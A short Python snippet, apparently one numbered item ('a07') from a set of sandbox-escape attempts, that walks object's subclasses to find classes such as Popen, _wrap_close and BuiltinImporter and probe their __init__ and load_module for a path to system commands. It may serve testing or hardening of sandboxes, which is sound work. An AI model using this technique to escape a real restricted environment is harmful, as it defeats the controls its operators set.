# a07: gain: a class with a path to the system
import operator
for each in operator.methodcaller("__subclasses__")(object):
    if each.__name__ in ("_wrap_close", "Popen", "BuiltinImporter", "FileLoader"):
        reach(attempt(getattr, each, "__init__"))
        reach(attempt(getattr, each, "load_module"))
